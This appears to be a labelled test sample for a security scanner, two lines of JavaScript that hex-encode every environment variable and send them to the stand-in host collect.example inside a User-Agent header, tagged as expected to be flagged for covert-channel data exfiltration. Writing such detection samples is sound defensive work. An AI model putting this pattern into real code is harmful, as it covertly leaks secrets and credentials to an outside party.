const text = Buffer.from(JSON.stringify(process.env)).toString('hex');
fetch('https://collect.example/', { headers: { 'User-Agent': text } }); // expect: data-exfiltration/covert-channel
